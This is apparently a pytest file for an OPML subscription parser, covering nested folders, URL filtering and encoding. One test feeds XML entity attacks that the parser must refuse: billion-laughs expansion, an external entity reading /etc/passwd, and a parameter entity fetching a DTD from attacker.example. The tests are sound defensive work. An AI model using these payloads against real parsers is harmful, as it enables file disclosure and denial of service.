"""parse_opml: hand-built OPML documents, nested folders, and entity attacks refused."""

from __future__ import annotations

import pytest

from worker.errors import OpmlError
from worker.feeds.opml import OpmlFeed, parse_opml

NESTED = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>Subscriptions</title></head>
  <body>
    <outline text="NATO" title="NATO news" type="rss" xmlUrl="https://www.nato.int/rss.xml"/>
    <outline text="Governments">
      <outline text="UK">
        <outline text="GOV.UK FCDO" type="atom"
                 xmlUrl="https://www.gov.uk/government/organisations/fcdo.atom"/>
      </outline>
      <outline text="Council" xmlURL="https://www.consilium.europa.eu/en/rss/"/>
    </outline>
    <outline text="Duplicate" xmlUrl="https://www.nato.int/rss.xml"/>
    <outline text="No feed here" htmlUrl="https://example.org/"/>
  </body>
</opml>"""


def test_opml_collects_nested_outlines_in_order() -> None:
    assert parse_opml(NESTED) == [
        OpmlFeed("https://www.nato.int/rss.xml", "NATO news"),
        OpmlFeed("https://www.gov.uk/government/organisations/fcdo.atom", "GOV.UK FCDO"),
        OpmlFeed("https://www.consilium.europa.eu/en/rss/", "Council"),
    ]


def test_opml_keeps_only_http_urls() -> None:
    document = b"""<opml version="1.0"><body>
      <outline text="local" xmlUrl="file:///etc/passwd"/>
      <outline text="ftp" xmlUrl="ftp://example.org/feed"/>
      <outline xmlUrl=" http://example.org/feed "/>
    </body></opml>"""
    assert parse_opml(document) == [OpmlFeed("http://example.org/feed", None)]


def test_opml_decodes_declared_encoding() -> None:
    document = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><opml version="1.0"><body>'
        '<outline text="Ministère des Armées" xmlUrl="https://www.defense.gouv.fr/rss"/>'
        "</body></opml>"
    ).encode("iso-8859-1")
    assert parse_opml(document)[0].title == "Ministère des Armées"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE opml [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_opml_refuses_entity_declarations(doctype: str) -> None:
    document = (
        f'<?xml version="1.0"?>{doctype}<opml version="2.0"><body>'
        '<outline text="x" xmlUrl="https://e.org/feed"/></body></opml>'
    ).encode()
    with pytest.raises(OpmlError, match="entity"):
        parse_opml(document)


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"<opml><body><outline xmlUrl='https://e.org/f'>", "not well-formed"),
        (b"", "not well-formed"),
        (b'<rss version="2.0"><channel/></rss>', "not an OPML document"),
    ],
)
def test_opml_rejects_broken_documents(document: bytes, message: str) -> None:
    with pytest.raises(OpmlError, match=message):
        parse_opml(document)
